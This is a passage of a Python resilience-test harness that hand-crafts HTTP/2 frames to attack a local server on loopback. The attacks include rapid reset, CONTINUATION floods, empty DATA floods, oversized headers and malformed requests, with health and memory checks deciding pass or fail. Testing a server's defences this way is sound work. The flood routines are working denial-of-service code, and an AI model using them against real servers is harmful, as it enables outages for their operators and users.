#!/usr/bin/env python3
"""HTTP/2 abuse against a running gcm-oracle, on loopback.

Frames are written by hand (9-byte frame headers, HPACK literals without indexing) so that the
client can do what a well-behaved HTTP/2 library refuses to: floods of empty DATA frames, rapid
stream resets, header lists far over any sensible size, CONTINUATION frames without end. Server
frames are parsed with hyperframe and hpack (the PyPI `h2` package's own dependencies).

Each attack runs on its own connection(s), bounded by --max-seconds and by a frame count, while
a separate process (hostile_common.Monitor) probes GET /healthz over fresh TLS connections every
100 ms and samples the server's RSS every 50 ms. Before each attack, 4 idle "bystander" HTTP/2
connections are opened; after it, each must still answer a request.

Pass/fail, per attack:
  * the server process is alive, writes no panic to its log (--log), the bystanders still get
    200, and 200 ordinary requests over 4 new connections afterwards all get 200;
  * every /healthz probe during the attack succeeds, the slowest within --health-max (1 s);
  * RSS grows by at most --rss-limit-mib (64 MiB) over the baseline taken just before the
    attack, and is back within --rss-settle-mib (32 MiB) of it after the ordinary requests;
  * the attack's own rule: a stalled body fed only empty DATA frames still times out (408 or a
    reset within --body-timeout + 2 s); a flooded stream is answered or its connection ended,
    never left hanging; a header list over h2's 16 MiB limit is refused; a CONTINUATION flood
    ends the connection.
The thresholds: with the HTTP/2 limits in place (h2's empty-DATA fix, MAX_CONCURRENT_STREAMS,
a 64 KiB header list) every attack here costs under 1 MiB of RSS and /healthz stays under
200 ms; without them, the attacks that fail grow RSS by 86-311 MiB. 64 MiB on a 20-30 MiB
server is well clear of the first and well below the second. Run the server with
MIMALLOC_PURGE_DELAY=0 so that RSS follows live memory (otherwise memory freed after one
attack is kept by the allocator and hides the next attack's growth).
"""

from __future__ import annotations

import asyncio
import re
import ssl
import struct
import sys
import time

import hpack
from hyperframe.frame import Frame

from hostile_common import (
    Monitor,
    alive,
    base_parser,
    close_reason,
    describe,
    mib,
    raise_fd_limit,
    rss_kib,
    split_url,
    tls_context,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERROR_CODES = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT",
    5: "STREAM_CLOSED",
    6: "FRAME_SIZE_ERROR",
    7: "REFUSED_STREAM",
    8: "CANCEL",
    9: "COMPRESSION_ERROR",
    10: "CONNECT_ERROR",
    11: "ENHANCE_YOUR_CALM",
    12: "INADEQUATE_SECURITY",
    13: "HTTP_1_1_REQUIRED",
}
SETTING_NAMES = {
    1: "HEADER_TABLE_SIZE",
    2: "ENABLE_PUSH",
    3: "MAX_CONCURRENT_STREAMS",
    4: "INITIAL_WINDOW_SIZE",
    5: "MAX_FRAME_SIZE",
    6: "MAX_HEADER_LIST_SIZE",
    8: "ENABLE_CONNECT_PROTOCOL",
}
MAX_FRAME = 16384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name: bytes, value: bytes) -> bytes:
    """A header as a 'literal without indexing, new name': it leaves the HPACK table alone."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(authority: str, method: str, path: str, extra: list[tuple[bytes, bytes]] = ()) -> bytes:
    fields = [
        (b":method", method.encode()),
        (b":scheme", b"https"),
        (b":authority", authority.encode()),
        (b":path", path.encode()),
        *extra,
    ]
    return b"".join(literal(n, v) for n, v in fields)


def header_frames(stream: int, block: bytes, end_stream: bool) -> bytes:
    """HEADERS, then CONTINUATION frames, for a header block of any size."""
    pieces = [block[i : i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = []
    for index, piece in enumerate(pieces):
        flags = END_HEADERS if index == len(pieces) - 1 else 0
        if index == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream, piece))
        else:
            out.append(frame(CONTINUATION, flags, stream, piece))
    return b"".join(out)


class H2:
    """One client HTTP/2 connection with a reader that answers SETTINGS and PING and records
    what the server does: statuses per stream, RST_STREAM codes, GOAWAY, the close."""

    def __init__(self, host: str, port: int, context: ssl.SSLContext):
        self.host, self.port, self.context = host, port, context
        self.authority = f"{host}:{port}"
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.statuses: dict[int, str] = {}
        self.resets: dict[str, int] = {}
        self.goaway: tuple[str, int, bytes] | None = None
        self.goaway_at: float | None = None
        self.closed_at: float | None = None
        self.close_how = ""
        self.server_settings: dict[str, int] = {}
        self.data_bytes = 0
        self.frames_in = 0
        self._partial: tuple[int, bytearray] | None = None
        self._status_waiters: dict[int, asyncio.Future] = {}
        self._settings = asyncio.Event()
        # While a header block is being sent, nothing else may be: no SETTINGS or PING ACK.
        self.quiet = False

    async def open(self) -> "H2":
        self.reader, self.writer = await asyncio.wait_for(
            asyncio.open_connection(self.host, self.port, ssl=self.context, server_hostname=self.host), 10
        )
        alpn = self.writer.get_extra_info("ssl_object").selected_alpn_protocol()
        if alpn != "h2":
            raise RuntimeError(f"the server chose ALPN {alpn!r}, not h2")
        # ENABLE_PUSH 0, INITIAL_WINDOW_SIZE 2^31-1; and open the connection window wide, so the
        # server's answers are never held back by this client.
        settings = struct.pack(">HI", 2, 0) + struct.pack(">HI", 4, 0x7FFFFFFF)
        self.writer.write(
            PREFACE + frame(SETTINGS, 0, 0, settings) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535))
        )
        self.task = asyncio.create_task(self._read())
        # The server's SETTINGS arrive first and are acknowledged before anything else is sent,
        # so no ACK can fall in the middle of a header block later.
        await asyncio.wait_for(self._settings.wait(), 10)
        return self

    @property
    def closed(self) -> bool:
        return self.closed_at is not None

    def write(self, data: bytes) -> None:
        if not self.closed and not self.writer.transport.is_closing():
            self.writer.write(data)

    async def send(self, data: bytes) -> bool:
        """Writes and waits until the socket took it; False once the connection is gone."""
        if self.closed or self.writer.transport.is_closing():
            return False
        self.writer.write(data)
        try:
            await self.writer.drain()
        except (ConnectionError, ssl.SSLError, OSError):
            return False
        return not self.closed

    async def _read(self) -> None:
        buffer = bytearray()
        try:
            while True:
                chunk = await self.reader.read(1 << 16)
                if not chunk:
                    self.close_how = "eof"
                    break
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[0:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    head, payload = bytes(buffer[:9]), bytes(buffer[9 : 9 + length])
                    del buffer[: 9 + length]
                    self._on_frame(head, payload)
        except OSError as err:
            self.close_how = close_reason(err)
        self.closed_at = time.monotonic()
        for waiter in self._status_waiters.values():
            if not waiter.done():
                waiter.set_result(None)

    def _on_frame(self, head: bytes, payload: bytes) -> None:
        self.frames_in += 1
        parsed, length = Frame.parse_frame_header(memoryview(head))
        kind = head[3]
        flags = head[4]
        stream = parsed.stream_id
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload), 6):
                ident, value = struct.unpack(">HI", payload[i : i + 6])
                self.server_settings[SETTING_NAMES.get(ident, str(ident))] = value
            if not self.quiet:
                self.write(frame(SETTINGS, ACK, 0))
            self._settings.set()
        elif kind == PING and not flags & ACK:
            if not self.quiet:
                self.write(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = (ERROR_CODES.get(code, str(code)), last & 0x7FFFFFFF, payload[8:200])
            self.goaway_at = time.monotonic()
        elif kind == RST_STREAM:
            code = ERROR_CODES.get(struct.unpack(">I", payload[:4])[0], "?")
            self.resets[code] = self.resets.get(code, 0) + 1
            self._settle(stream, f"RST_STREAM {code}")
        elif kind == HEADERS:
            block = payload
            if flags & 0x8:  # PADDED
                block = block[1 : len(block) - block[0]]
            if flags & 0x20:  # PRIORITY
                block = block[5:]
            if flags & END_HEADERS:
                self._on_block(stream, bytes(block))
            else:
                self._partial = (stream, bytearray(block))
        elif kind == CONTINUATION and self._partial:
            self._partial[1].extend(payload)
            if flags & END_HEADERS:
                stream, block = self._partial
                self._partial = None
                self._on_block(stream, bytes(block))
        elif kind == DATA:
            self.data_bytes += len(payload)
            if len(payload) and not self.quiet:
                # Give the flow-control credit back, so long answers keep coming.
                self.write(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", len(payload))))

    def _on_block(self, stream: int, block: bytes) -> None:
        headers = dict(self.decoder.decode(block, raw=False))
        if ":status" in headers and stream not in self.statuses:
            self._settle(stream, headers[":status"])

    def _settle(self, stream: int, what: str) -> None:
        self.statuses.setdefault(stream, what)
        waiter = self._status_waiters.get(stream)
        if waiter is not None and not waiter.done():
            waiter.set_result(what)

    async def status(self, stream: int, timeout: float) -> str | None:
        """The stream's status (or 'RST_STREAM CODE'); None if the connection closed or timed out."""
        if stream in self.statuses:
            return self.statuses[stream]
        if self.closed:
            return None
        waiter = self._status_waiters.setdefault(stream, asyncio.get_running_loop().create_future())
        try:
            return await asyncio.wait_for(asyncio.shield(waiter), timeout)
        except asyncio.TimeoutError:
            return None

    async def wait_closed(self, timeout: float) -> bool:
        try:
            await asyncio.wait_for(asyncio.shield(self.task), timeout)
        except asyncio.TimeoutError:
            return False
        return True

    def abort(self) -> None:
        self.writer.transport.abort()

    def reaction(self) -> str:
        parts = []
        if self.goaway:
            code, last, debug = self.goaway
            parts.append(f"GOAWAY {code} (last stream {last}{', ' + debug.decode('latin-1') if debug else ''})")
        if self.resets:
            parts.append("RST_STREAM " + ", ".join(f"{n} × {code}" for code, n in self.resets.items()))
        if self.closed:
            parts.append(f"connection closed by the server ({self.close_how})")
        return "; ".join(parts) or "none (connection still open)"


JSON_BODY = b'{"data":"' + b"x" * 53 + b'"}'  # 64 bytes
assert len(JSON_BODY) == 64


class Context:
    def __init__(self, args, host, port):
        self.args = args
        self.host, self.port = host, port
        self.context = tls_context(args.cacert, ["h2"])

    async def connect(self) -> H2:
        conn = await H2(self.host, self.port, self.context).open()
        return conn

    def post_block(self, path: str | None = None, content_length: int | None = 64, extra=()) -> bytes:
        fields = [(b"content-type", b"application/json")]
        if content_length is not None:
            fields.append((b"content-length", str(content_length).encode()))
        return request_block(f"{self.host}:{self.port}", "POST", path or self.args.path, fields + list(extra))

    def get_block(self, path: str, extra=()) -> bytes:
        return request_block(f"{self.host}:{self.port}", "GET", path, list(extra))

    async def normal_request(self) -> str:
        """One ordinary POST over a fresh HTTP/2 connection: '200' when all is well."""
        try:
            conn = await self.connect()
        except (OSError, asyncio.TimeoutError, ssl.SSLError, RuntimeError) as err:
            return f"cannot connect: {err}"
        try:
            conn.write(header_frames(1, self.post_block(), False) + frame(DATA, END_STREAM, 1, JSON_BODY))
            return await conn.status(1, 10) or f"no answer ({conn.reaction()})"
        finally:
            conn.abort()


# ---------------------------------------------------------------------------------------------
# The attacks. Each returns (observations: dict, problems: list[str]).


async def flood(conn: H2, unit: bytes, frames_per_unit: int, total: int, deadline: float) -> tuple[int, float]:
    """Writes `unit` (a batch of frames) until `total` frames, the deadline, or a close."""
    sent = 0
    started = time.monotonic()
    while sent < total and time.monotonic() < deadline:
        if not await conn.send(unit):
            break
        sent += frames_per_unit
    return sent, time.monotonic() - started


def empty_data_unit(streams: list[int], per_stream: int) -> bytes:
    return b"".join(frame(DATA, 0, sid, b"") for _ in range(per_stream) for sid in streams)


async def attack_empty_data_on_body(ctx: Context, frames: int, streams: int = 1, connections: int = 1):
    """Empty DATA frames on POST streams whose handler is waiting for the body (it reads the
    body as it comes, so this is the 'drained' case), then the real body: does it still work?
    `frames` per connection."""
    ids = [1 + 2 * i for i in range(streams)]
    per_unit = max(1, 20000 // streams)
    unit = empty_data_unit(ids, per_unit)

    async def one(conn: H2):
        conn.write(b"".join(header_frames(sid, ctx.post_block(), False) for sid in ids))
        sent, took = await flood(conn, unit, per_unit * streams, frames, time.monotonic() + ctx.args.max_seconds)
        # The body proper, after the flood: the handler should still be waiting, and answer.
        conn.write(b"".join(frame(DATA, END_STREAM, sid, JSON_BODY) for sid in ids))
        answers = [await conn.status(sid, 20) for sid in ids]
        return sent, took, answers

    conns = [await ctx.connect() for _ in range(connections)]
    outcomes = await asyncio.gather(*(one(c) for c in conns))
    sent = sum(o[0] for o in outcomes)
    took = max(o[1] for o in outcomes)
    counts: dict[str, int] = {}
    for o in outcomes:
        for a in o[2]:
            counts[str(a)] = counts.get(str(a), 0) + 1
    obs = {
        "empty DATA frames sent": f"{sent} on {streams} stream(s) × {connections} connection(s)",
        "rate": f"{sent / took / 1e6:.2f} M frames/s" if took else "-",
        "answers after the flood": ", ".join(f"{n} × {a}" for a, n in counts.items()),
        "server reaction": conns[0].reaction(),
    }
    for c in conns:
        c.abort()
    # Either reaction is sound: the stream survives the flood and the body is answered, or the
    # server ends the connection (h2 0.4.16+ sends GOAWAY ENHANCE_YOUR_CALM after 100 empty
    # frames). A stream left hanging on an open connection is not.
    hung = [c for c, o in zip(conns, outcomes) if not (c.closed or c.goaway) and any(a != "200" for a in o[2])]
    problems = []
    if hung:
        problems.append(f"{len(hung)} connection(s) neither answered the body after the flood nor were closed")
    return obs, problems


async def attack_empty_data_after_answer(ctx: Context, frames: int, method: str, path: str):
    """A request the server answers without reading its body (GET /healthz, an unknown path,
    a body announced far over the limit): then empty DATA frames on that stream."""
    conn = await ctx.connect()
    if method == "GET":
        block = ctx.get_block(path)
    else:
        block = ctx.post_block(path=path, content_length=1 << 30)
    conn.write(header_frames(1, block, False))
    first = await conn.status(1, 10)
    unit = empty_data_unit([1], 20000)
    sent, took = await flood(conn, unit, 20000, frames, time.monotonic() + ctx.args.max_seconds)
    await conn.wait_closed(1.0)
    obs = {
        "answer before the flood": first,
        "empty DATA frames sent": sent,
        "rate": f"{sent / took / 1e6:.2f} M frames/s" if took else "-",
        "server reaction": conn.reaction(),
    }
    conn.abort()
    return obs, []


async def attack_rapid_reset(ctx: Context, streams: int, kind: str, connections: int = 1):
    """HEADERS then RST_STREAM(CANCEL) at once, stream after stream (CVE-2023-44487)."""
    async def one(conn: H2):
        if kind == "GET":
            block = ctx.get_block("/healthz")
            end_stream = True
        else:
            block = ctx.post_block()
            end_stream = False
        batch = 500
        sent = 0
        sid = 1
        deadline = time.monotonic() + ctx.args.max_seconds
        while sent < streams and time.monotonic() < deadline:
            unit = b"".join(
                header_frames(s, block, end_stream) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
                for s in range(sid, sid + 2 * batch, 2)
            )
            if not await conn.send(unit):
                break
            sid += 2 * batch
            sent += batch
        return sent

    conns = [await ctx.connect() for _ in range(connections)]
    started = time.monotonic()
    sent = await asyncio.gather(*(one(c) for c in conns))
    took = time.monotonic() - started
    await asyncio.sleep(0.5)
    closes = [c.closed_at - started for c in conns if c.closed_at]
    # Is the connection still usable for a real request?
    last = conns[0]
    usable = "-"
    if not last.closed:
        sid = 2 * sent[0] + 1
        last.write(header_frames(sid, ctx.post_block(), False) + frame(DATA, END_STREAM, sid, JSON_BODY))
        usable = str(await last.status(sid, 10))
    obs = {
        "streams opened and reset": f"{sum(sent)} written"
        + (" (until the close was noticed)" if closes else ""),
        "connections": connections,
        "closed by the server": f"{len(closes)} of {connections}" + (f", within {max(closes):.2f} s" if closes else ""),
        "rate": f"{sum(sent) / took:.0f} streams/s",
        "answered before the reset": sum(1 for c in conns for s in c.statuses.values() if s.isdigit()),
        "a real request on the same connection afterwards": usable,
        "server reaction": " | ".join(c.reaction() for c in conns[:2]) + (" | …" if connections > 2 else ""),
    }
    for c in conns:
        c.abort()
    return obs, []


async def attack_open_streams(ctx: Context, streams: int):
    """Many concurrent streams that announce a body and never send it (the server's
    MAX_CONCURRENT_STREAMS, if any, should refuse most of them)."""
    conn = await ctx.connect()
    await asyncio.sleep(0.2)
    block = ctx.post_block()
    batch = 1000
    sent = 0
    deadline = time.monotonic() + ctx.args.max_seconds
    while sent < streams and time.monotonic() < deadline:
        unit = b"".join(header_frames(1 + 2 * (sent + i), block, False) for i in range(batch))
        if not await conn.send(unit):
            break
        sent += batch
    opened_at = time.monotonic()
    # Hold them until the server's body timeout answers them, or the time budget ends.
    while time.monotonic() < min(deadline + 5, opened_at + ctx.args.body_timeout + 3) and not conn.closed:
        if len(conn.statuses) >= sent:
            break
        await asyncio.sleep(0.1)
    counts: dict[str, int] = {}
    for s in conn.statuses.values():
        counts[s] = counts.get(s, 0) + 1
    obs = {
        "streams opened": sent,
        "server's MAX_CONCURRENT_STREAMS": conn.server_settings.get("MAX_CONCURRENT_STREAMS", "not set (unlimited)"),
        "answers": ", ".join(f"{n} × {s}" for s, n in sorted(counts.items(), key=lambda kv: -kv[1])) or "none",
        "all answered after": f"{time.monotonic() - opened_at:.1f} s" if len(conn.statuses) >= sent else "-",
        "server reaction": conn.reaction(),
    }
    conn.abort()
    return obs, []


async def send_header_block(ctx: Context, frames: bytes, connections: int):
    """Sends one request's header frames on `connections` new connections at once; returns the
    connections, the status each got (or what ended it) and when sending started."""
    conns = [await ctx.connect() for _ in range(connections)]
    started = time.monotonic()
    for c in conns:
        c.quiet = True
    await asyncio.gather(*(c.send(frames) for c in conns))
    for c in conns:
        c.quiet = False
    answers = [await c.status(1, 15) for c in conns]
    await asyncio.gather(*(c.wait_closed(0.5) for c in conns))
    return conns, answers, started


async def attack_big_headers(ctx: Context, size: int, connections: int = 1):
    """One request whose header list is `size` bytes: 16 KiB header values, over HEADERS and
    CONTINUATION frames. A list over h2's own 16 MiB limit must be refused."""
    value = b"v" * (16 * 1024 - 64)
    count = max(1, size // len(value))
    extra = [(f"x-big-{i}".encode(), value) for i in range(count)]
    block = ctx.get_block("/healthz", extra)
    frames = header_frames(1, block, True)
    conns, answers, started = await send_header_block(ctx, frames, connections)
    obs = {
        "header list": f"{len(block) / (1 << 20):.1f} MiB in {count} fields, {len(frames) // (MAX_FRAME + 9) + 1} frames, on {connections} connection(s) at once",
        "answer": ", ".join(sorted(set(str(a) for a in answers))),
        "took": f"{time.monotonic() - started:.2f} s",
        "server reaction": conns[0].reaction(),
    }
    for c in conns:
        c.abort()
    problems = []
    if size > 16 << 20 and "200" in answers:
        problems.append(f"a {size >> 20} MiB header list was accepted (200)")
    return obs, problems


async def attack_many_headers(ctx: Context, count: int, distinct: bool, connections: int = 1):
    """One request with `count` small header fields: distinct names (each a literal), or the same
    small field repeated by its HPACK dynamic-table index (one byte each)."""
    if distinct:
        block = ctx.get_block("/healthz", [(f"x{i:05x}".encode(), b"") for i in range(count)])
    else:
        # 'x-r: 1' once with incremental indexing (dynamic index 62), then index 62 repeated.
        block = ctx.get_block("/healthz") + b"\x40" + hpack_int(3, 7) + b"x-r" + hpack_int(1, 7) + b"1" + b"\xbe" * count
    frames = header_frames(1, block, True)
    conns, answers, started = await send_header_block(ctx, frames, connections)
    obs = {
        "header fields": f"{count} ({'distinct names' if distinct else 'one field repeated via the HPACK table'}), "
        f"block {len(block) / 1024:.0f} KiB, on {connections} connection(s) at once",
        "answer": ", ".join(sorted(set(str(a) for a in answers))),
        "took": f"{time.monotonic() - started:.2f} s",
        "server reaction": conns[0].reaction(),
    }
    for c in conns:
        c.abort()
    return obs, []


async def attack_continuation_flood(ctx: Context, frames: int, piece: int, connections: int = 1):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block
    (CVE-2024-27316 style): empty frames, or frames each holding one whole header field of
    about `piece` bytes, so the header list grows with every frame."""
    async def one(conn: H2):
        conn.quiet = True
        await conn.send(frame(HEADERS, END_STREAM, 1, ctx.get_block("/healthz")))
        if piece:
            units = [
                frame(CONTINUATION, 0, 1, literal(f"x-c{i}".encode(), b"c" * (piece - 16)))
                for i in range(64)
            ]
            unit, per = b"".join(units), len(units)
        else:
            per = 10000
            unit = frame(CONTINUATION, 0, 1) * per
        sent, _ = await flood(conn, unit, per, frames, time.monotonic() + ctx.args.max_seconds)
        await conn.wait_closed(5.0)
        return sent

    conns = [await ctx.connect() for _ in range(connections)]
    started = time.monotonic()
    sent = await asyncio.gather(*(one(c) for c in conns))
    closes = [c.closed_at - started for c in conns if c.closed_at]
    obs = {
        "CONTINUATION frames written": f"{sum(sent)} ({piece} bytes each) over {connections} connection(s)"
        + (" (written until the close was noticed; the server stopped reading earlier)" if closes else ""),
        "closed by the server": f"{sum(1 for c in conns if c.closed or c.goaway)} of {connections}"
        + (f", after {max(closes):.2f} s" if closes else ""),
        "server reaction": conns[0].reaction(),
    }
    still_open = [c for c in conns if not (c.closed or c.goaway)]
    for c in conns:
        c.abort()
    problems = [f"{len(still_open)} connection(s) still open 5 s after an endless header block"] if still_open else []
    return obs, problems


async def attack_empty_data_trickle(ctx: Context, body_timeout: float):
    """A POST whose body stalls after half of it, kept 'alive' by one empty DATA frame every
    half body-timeout: no body byte arrives, so the server must still answer 408 (or reset the
    stream) within --body-timeout + 2 s."""
    conn = await ctx.connect()
    conn.write(header_frames(1, ctx.post_block(), False) + frame(DATA, 0, 1, JSON_BODY[:32]))
    stalled = time.monotonic()
    bound = body_timeout + 2.0
    until = stalled + min(3 * body_timeout, ctx.args.max_seconds)
    sent = 0
    while time.monotonic() < until and 1 not in conn.statuses and not conn.closed:
        await conn.send(frame(DATA, 0, 1, b""))
        sent += 1
        await asyncio.sleep(min(body_timeout / 2, 1.0))
    answer = conn.statuses.get(1)
    answered_after = time.monotonic() - stalled
    obs = {
        "empty DATA frames sent": f"{sent}, one every {min(body_timeout / 2, 1.0):g} s",
        "answer": f"{answer} after {answered_after:.1f} s" if answer else f"none within {answered_after:.1f} s",
        "server reaction": conn.reaction(),
    }
    conn.abort()
    problems = []
    if answer is None and not conn.closed or answered_after > bound:
        problems.append(
            f"empty DATA frames kept a stalled body open for {answered_after:.1f} s, past --body-timeout {body_timeout:g} s + 2 s "
            "(each empty frame restarts the body timeout)"
        )
    return obs, problems


# ---------------------------------------------------------------------------------------------


class ServerLog:
    """What the server logged during an attack, besides the access log: its own reaction
    (h2's warnings, panics)."""

    def __init__(self, path: str | None):
        self.path = path
        self.offset = 0

    def mark(self) -> None:
        if self.path:
            try:
                with open(self.path, "rb") as log:
                    log.seek(0, 2)
                    self.offset = log.tell()
            except FileNotFoundError:
                self.offset = 0

    def since_mark(self) -> tuple[int, dict[str, int]]:
        """(panics, {notable line without its timestamp: count})."""
        if not self.path:
            return 0, {}
        try:
            with open(self.path, "rb") as log:
                log.seek(self.offset)
                text = log.read().decode("utf-8", "replace")
        except FileNotFoundError:
            return 0, {}
        panics = 0
        notable: dict[str, int] = {}
        for line in text.splitlines():
            if "panicked at" in line:
                panics += 1
                key = "PANIC " + line.split("panicked at", 1)[1].strip()
            elif re.search(r"\b(WARN|ERROR)\b", line) and "gcm_oracle::access" not in line:
                key = re.sub(r"^\S+Z\s+", "", line).strip()[:160]
            else:
                continue
            notable[key] = notable.get(key, 0) + 1
        return panics, notable


# Requests that break HTTP/2's rules (RFC 9113 §8): h2 refuses each before actix or our code
# sees it. What each gets is listed in docs/WIRE.md; a change (an actix or h2 upgrade) fails here.
MALFORMED = [
    # name, frames for stream 1 (or 2), the reactions allowed
    ("content-length 64, 10 bytes of DATA", lambda ctx: header_frames(1, ctx.post_block(), False) + frame(DATA, END_STREAM, 1, b"x" * 10), {"RST_STREAM PROTOCOL_ERROR"}),
    ("content-length 4, 64 bytes of DATA", lambda ctx: header_frames(1, ctx.post_block(content_length=4), False) + frame(DATA, END_STREAM, 1, JSON_BODY), {"RST_STREAM PROTOCOL_ERROR"}),
    ("no :path", lambda ctx: header_frames(1, b"".join(literal(n, v) for n, v in [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", ctx.host.encode())]), True), {"RST_STREAM PROTOCOL_ERROR"}),
    ("two :path", lambda ctx: header_frames(1, ctx.get_block("/healthz", [(b":path", b"/healthz")]), True), {"RST_STREAM PROTOCOL_ERROR"}),
    ("a pseudo-header after a regular one", lambda ctx: header_frames(1, ctx.get_block("/healthz", [(b"x-a", b"b"), (b":status", b"200")]), True), {"RST_STREAM PROTOCOL_ERROR"}),
    ("connection: keep-alive", lambda ctx: header_frames(1, ctx.get_block("/healthz", [(b"connection", b"keep-alive")]), True), {"RST_STREAM PROTOCOL_ERROR"}),
    ("transfer-encoding: chunked", lambda ctx: header_frames(1, ctx.get_block("/healthz", [(b"transfer-encoding", b"chunked")]), True), {"RST_STREAM PROTOCOL_ERROR"}),
    ("an upper-case header name", lambda ctx: header_frames(1, ctx.get_block("/healthz", [(b"X-Upper", b"a")]), True), {"GOAWAY PROTOCOL_ERROR"}),
    ("CR LF in a header value", lambda ctx: header_frames(1, ctx.get_block("/healthz", [(b"x-a", b"b\r\nx-b: c")]), True), {"GOAWAY PROTOCOL_ERROR"}),
    ("DATA after END_STREAM", lambda ctx: header_frames(1, ctx.get_block("/healthz"), True) + frame(DATA, END_STREAM, 1, b"x"), {"GOAWAY PROTOCOL_ERROR"}),
    ("a request on an even stream id", lambda ctx: header_frames(2, ctx.get_block("/healthz"), True), {"GOAWAY PROTOCOL_ERROR"}),
]


async def attack_malformed(ctx: Context):
    """Each malformed request on a fresh connection: what the server answers."""
    obs, problems = {}, []
    for name, build, allowed in MALFORMED:
        conn = await ctx.connect()
        try:
            conn.write(build(ctx))
            await asyncio.sleep(0.5)
            status = conn.statuses.get(1) or conn.statuses.get(2)
            parts = []
            if status and not status.startswith("RST_STREAM"):
                parts.append(f"{status} then")
            if conn.resets:
                parts.append("RST_STREAM " + ",".join(conn.resets))
            elif conn.goaway:
                parts.append(f"GOAWAY {conn.goaway[0]}")
            seen = " ".join(parts) or "nothing"
            obs[name] = seen
            if seen not in allowed:
                problems.append(f"{name}: {seen}, expected one of {sorted(allowed)}")
        finally:
            conn.abort()
    return obs, problems


async def exercise(ctx: Context, connections: int = 4, requests: int = 50) -> list[str]:
    """Ordinary requests over `connections` new HTTP/2 connections (they land on every worker):
    the answers, and activity that lets the allocator return freed memory."""
    answers = []
    for _ in range(connections):
        try:
            conn = await ctx.connect()
        except (OSError, asyncio.TimeoutError, ssl.SSLError, RuntimeError) as err:
            answers.append(f"cannot connect: {err}")
            continue
        ids = list(range(1, 2 * requests, 2))
        conn.write(b"".join(header_frames(sid, ctx.post_block(), False) + frame(DATA, END_STREAM, sid, JSON_BODY) for sid in ids))
        for sid in ids:
            answers.append(await conn.status(sid, 10) or f"no answer ({conn.reaction()})")
        conn.abort()
    return answers


class Bystanders:
    """Idle HTTP/2 connections opened before an attack (spread over the workers), each asked
    for one request after it: an attack must not take other clients' connections down."""

    def __init__(self, ctx: Context, count: int = 4):
        self.ctx, self.count, self.conns = ctx, count, []

    async def open(self) -> None:
        self.conns = [await self.ctx.connect() for _ in range(self.count)]

    async def check(self) -> list[str]:
        lost = []
        for index, conn in enumerate(self.conns):
            conn.write(header_frames(1, self.ctx.post_block(), False) + frame(DATA, END_STREAM, 1, JSON_BODY))
            answer = await conn.status(1, 10)
            if answer != "200":
                lost.append(f"bystander {index}: {answer or conn.reaction()}")
            conn.abort()
        return lost


async def run(args, host, port) -> int:
    ctx = Context(args, host, port)
    log = ServerLog(args.log)
    monitor = Monitor(host, port, args.cacert, args.pid).start()
    await asyncio.sleep(1.5)  # the monitor's process starts and takes its first samples

    # Warm up: ordinary requests over HTTP/2 on every worker, so the baseline RSS includes the
    # allocator's and TLS's steady state.
    await exercise(ctx, connections=8, requests=100)
    await asyncio.sleep(1.0)

    limit_kib = args.rss_limit_mib * 1024
    settle_kib = args.rss_settle_mib * 1024
    sizes = [int(n) for n in args.data_frames.split(",")]
    biggest = max(sizes)

    plan = []
    for n in sizes:
        plan.append((f"empty DATA × {n / 1e6:g}M on a POST whose handler reads the body", lambda n=n: attack_empty_data_on_body(ctx, n)))
    plan += [
        ("malformed HTTP/2 requests (RFC 9113 §8): each refused by a stream or connection error", lambda: attack_malformed(ctx)),
        (f"empty DATA × {biggest / 1e6:g}M spread over 100 POST streams", lambda: attack_empty_data_on_body(ctx, biggest, streams=100)),
        (f"empty DATA × {args.data_frames_each / 1e6:g}M on each of {args.data_connections} connections at once", lambda: attack_empty_data_on_body(ctx, args.data_frames_each, connections=args.data_connections)),
        (f"empty DATA × {biggest / 1e6:g}M after GET /healthz was answered (body never read)", lambda: attack_empty_data_after_answer(ctx, biggest, "GET", "/healthz")),
        (f"empty DATA × {biggest / 1e6:g}M after a 404 for an unknown path", lambda: attack_empty_data_after_answer(ctx, biggest, "GET", "/no-such-path")),
        (f"empty DATA × {biggest / 1e6:g}M after a POST announcing 1 GiB (refused unread)", lambda: attack_empty_data_after_answer(ctx, biggest, "POST", args.path)),
        ("empty DATA trickle on a stalled body (does it still time out?)", lambda: attack_empty_data_trickle(ctx, args.body_timeout)),
        (f"rapid reset: GET + RST_STREAM × {args.resets}", lambda: attack_rapid_reset(ctx, args.resets, "GET")),
        (f"rapid reset: POST (body pending) + RST_STREAM × {args.resets}", lambda: attack_rapid_reset(ctx, args.resets, "POST")),
        (f"rapid reset: GET + RST_STREAM × {args.resets // 4} on each of 4 connections", lambda: attack_rapid_reset(ctx, args.resets // 4, "GET", connections=4)),
        (f"{args.open_streams} concurrent streams waiting for a body", lambda: attack_open_streams(ctx, args.open_streams)),
